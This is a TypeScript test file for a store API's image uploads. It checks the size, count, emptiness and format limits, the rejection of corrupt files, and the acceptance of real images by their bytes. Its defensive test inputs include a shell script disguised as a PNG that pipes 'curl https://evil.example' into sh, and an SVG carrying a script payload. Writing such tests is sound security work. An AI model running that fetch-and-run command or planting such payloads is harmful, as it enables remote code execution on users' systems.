import path from 'node:path'
import sharp from 'sharp'
import { describe, expect, it } from 'vitest'
import { setupTestApp } from '../helpers/app.ts'
import { createStore, createUser } from '../helpers/builders.ts'
import {
  electronics,
  filesUnder,
  image,
  productForm,
  validFields,
  type UploadFile,
} from './support.ts'

const { app, dataDir } = await setupTestApp()
await electronics(app)
const owner = await createUser(app)
const store = await createStore(app, owner.id)
const uploads = path.join(dataDir, 'uploads')

const FORMAT = 'Invalid image format. Only JPEG, JPG, PNG, and WEBP are allowed.'

async function upload(files: UploadFile[]) {
  const res = await app.inject({
    method: 'POST',
    url: `/api/v1/stores/${store.slug}/products`,
    headers: owner.auth,
    payload: productForm(validFields, files),
  })
  return res
}

async function storeProductCount() {
  const res = await app.inject({ url: `/api/v1/stores/${store.slug}/products?limit=100` })
  return res.json().pagination.totalItems as number
}

/** Sends the files, expects the refusal, and checks no file and no product was left behind. */
async function expectRefused(files: UploadFile[], status: number, message: string) {
  const products = await storeProductCount()
  const res = await upload(files)
  expect(res.statusCode).toBe(status)
  expect(res.json().message).toBe(message)
  expect(filesUnder(uploads)).toEqual([])
  expect(await storeProductCount()).toBe(products)
}

describe('image uploads are refused', () => {
  it('413 when a file is larger than 5,000,000 bytes', async () => {
    const big = await image('png', { width: 1400, height: 1400, noise: true })
    expect(big.length).toBeGreaterThan(5_000_000)
    await expectRefused(
      [{ bytes: await image('png') }, { bytes: big }],
      413,
      'File size should not exceed 5MB.',
    )
  })

  it('400 when a file is empty', async () => {
    await expectRefused([{ bytes: Buffer.alloc(0) }], 400, 'The image file is empty.')
  })

  it('415 when the bytes are another image type (GIF)', async () => {
    const gif = await image('gif')
    await expectRefused([{ bytes: gif, name: 'a.gif', type: 'image/gif' }], 415, FORMAT)
  })

  it('415 for a script named .png and declared image/png', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
    await expectRefused(
      [{ bytes: await image('png') }, { bytes: script, name: 'cute.png', type: 'image/png' }],
      415,
      FORMAT,
    )
  })

  it('415 for an SVG (text that browsers may run scripts in)', async () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    )
    await expectRefused([{ bytes: svg, name: 'a.svg', type: 'image/svg+xml' }], 415, FORMAT)
  })

  it('415, and the images already stored are removed, when a PNG is corrupt inside', async () => {
    const good = await image('png')
    const broken = Buffer.concat([(await image('png')).subarray(0, 40), Buffer.alloc(200, 7)])
    await expectRefused([{ bytes: good }, { bytes: good }, { bytes: broken }], 415, FORMAT)
  })

  it('400 when more than 8 images are sent', async () => {
    const png = await image('png')
    await expectRefused(
      Array.from({ length: 9 }, () => ({ bytes: png })),
      400,
      'Add at most 8 images.',
    )
  })
})

describe('image uploads are accepted by their bytes', () => {
  it('a real PNG declared as text/plain and named .txt', async () => {
    const res = await upload([{ bytes: await image('png'), name: 'notes.txt', type: 'text/plain' }])
    expect(res.statusCode).toBe(201)
    expect(res.json().data.images).toHaveLength(1)
  })

  it('JPEG, PNG and WebP together, 8 of them, kept in the order sent', async () => {
    const formats = ['jpeg', 'png', 'webp', 'jpeg', 'png', 'webp', 'png', 'jpeg'] as const
    // Each image's red channel tells its position: 0, 30, 60, …
    const files = await Promise.all(
      formats.map(async (format, i) => ({
        bytes: await image(format, { color: `rgb(${i * 30}, 100, 100)` }),
        type: `image/${format}`,
      })),
    )
    const before = filesUnder(uploads).length
    const res = await upload(files)
    expect(res.statusCode).toBe(201)
    const urls: string[] = res.json().data.images
    expect(urls).toHaveLength(8)
    expect(filesUnder(uploads).length - before).toBe(8 * 3)
    const reds = await Promise.all(
      urls.map(async (url) => {
        const served = await app.inject({ url: url })
        const { channels } = await sharp(served.rawPayload).stats()
        return Math.round((channels[0]?.mean ?? -100) / 30)
      }),
    )
    expect(reds).toEqual([0, 1, 2, 3, 4, 5, 6, 7])
  })
})
